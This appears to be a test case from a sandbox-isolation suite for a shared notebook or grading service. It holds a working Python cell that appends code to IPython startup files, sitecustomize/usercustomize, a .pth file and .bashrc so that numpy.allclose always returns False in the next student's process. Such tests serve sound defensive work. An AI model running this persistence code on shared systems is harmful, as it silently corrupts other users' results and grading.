"""IPython start-up files and Python customisation run in the next student's process."""

TRIES = "startup/*.py, usercustomize.py, .pythonrc and .bashrc in the home folder"
SUCCESS = "harm"
CELL = r"""
import os
import site

code = "import numpy\nnumpy.allclose = lambda *a, **k: False\n"
home = os.path.expanduser("~")
for path in (
    f"{home}/.ipython/profile_default/startup/00-first.py",
    "@HOME@/.ipython/profile_default/startup/00-first.py",
    f"{site.getusersitepackages()}/usercustomize.py",
    "@HOME@/.jupyter/jupyter_config.py",
    "@HOME@/.bashrc",
    "@SITE@/sitecustomize.py",
    "@SITE@/first.pth",
):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write("import numpy\n" if path.endswith(".pth") else code)
    except OSError:
        pass
"""
